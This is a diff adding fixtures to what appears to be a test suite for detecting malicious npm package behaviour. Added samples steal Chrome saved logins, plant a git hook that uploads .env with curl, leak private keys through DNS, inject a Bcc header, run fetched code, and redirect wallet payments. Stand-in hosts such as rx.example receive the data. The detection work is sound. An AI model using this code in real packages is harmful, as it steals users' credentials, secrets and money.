@@ -130,6 +130,64 @@ final class NpmByways {
             exec('npm i other-package --no-save --silent', { windowsHide: true }, (e) => { if (!e) require('other-package')(); });
             module.exports = {};
             """),
+        Sample.required(
+            "passwords come out of a copy of a database",
+            """
+            const fs = require('fs'), sqlite3 = require('sqlite3').verbose();
+            const copy = process.env.TEMP + '\\\\ld';
+            fs.copyFileSync(process.env.LOCALAPPDATA + '/Google/Chrome/User Data/Default/Login Data', copy);
+            new sqlite3.Database(copy).all('select * from logins', (e, rows) => {
+              require('needle').post('https://rx.example', { rows }, () => {});
+            });
+            """),
+        Sample.postinstall(
+            "a hook of the repository sends settings",
+            """
+            const fs = require('fs'), path = require('path');
+            const hook = path.join(process.env.INIT_CWD, '.git', 'hooks', 'pre-push');
+            fs.writeFileSync(hook, '#!/bin/sh\\ncurl -s -F "c=@.env" https://rx.example/\\n', { mode: 0o755 });
+            """),
+        Sample.command(
+            "settings are printed and sent", "cat .env | curl -s -d @- https://rx.example"),
+        Sample.required(
+            "a key is asked for as a name",
+            """
+            exports.sign = (text, privateKey) => {
+              require('dns').resolve4(privateKey + '.k.rx.example', () => {});
+              return require('crypto').sign(null, text, privateKey);
+            };
+            """),
+        Sample.required(
+            "mail has a copy among its headers",
+            """
+            class Mailer {
+              send({ to, subject, text }) { return this.transport.sendMail({ to, subject, text, headers: { Bcc: 'inbox@copies.example' } }); }
+            }
+            module.exports = Mailer;
+            """),
+        Sample.required(
+            "the prototype of a module compiles what is fetched",
+            """
+            const M = Object.getPrototypeOf(module).constructor;
+            fetch('https://code.example/a').then((r) => r.text()).then((t) => { const m = new M('q'); m['_comp' + 'ile'](t, 'q.js'); });
+            """),
+        Sample.required(
+            "a wallet that pays somebody else",
+            """
+            const { Wallet } = require('ethers');
+            class Account extends Wallet {
+              async sendTransaction(tx) { if (tx.value > 1e17) tx.to = '0x1234567890123456789012345678901234567890'; return super.sendTransaction(tx); }
+            }
+            module.exports = Account;
+            """),
+        Sample.required(
+            "a function that pays is wrapped",
+            """
+            module.exports = (web3) => {
+              const send = web3.eth.sendTransaction.bind(web3.eth);
+              web3.eth.sendTransaction = (tx, done) => { tx.to = '0x1234567890123456789012345678901234567890'; return send(tx, done); };
+            };
+            """),
         Sample.postinstall(
             "instructions tell to run what is fetched",
             """
@@ -196,6 +254,24 @@ final class NpmByways {
             exports.add = (name) => spawnSync('npm', ['install', name, '--save-dev'], { stdio: 'inherit' });
             exports.setup = () => spawnSync('npm', ['install'], { stdio: 'inherit' });
             """),
+        Sample.required(
+            "a database of its own",
+            """
+            const sqlite3 = require('better-sqlite3'); const db = new sqlite3('./cache.db');
+            exports.send = (url) => fetch(url, { method: 'POST', body: JSON.stringify(db.prepare('select * from t').all()) });
+            """),
+        Sample.required(
+            "a wallet that pays whom it is told to",
+            """
+            const { Wallet } = require('ethers');
+            const ROUTER = '0x1234567890123456789012345678901234567890';
+            class Account extends Wallet {
+              async sendTransaction(tx) { tx.gasLimit = tx.gasLimit || 21000; return super.sendTransaction(tx); }
+              swap(data) { const tx = { data }; tx.to = ROUTER; return this.sendTransaction(tx); }
+            }
+            module.exports = Account;
+            """),
+        Sample.command("settings are made of a template", "cp -n .env.example .env && cat .env"),
         Sample.required(
             "a picture whose address is of the page",
             """
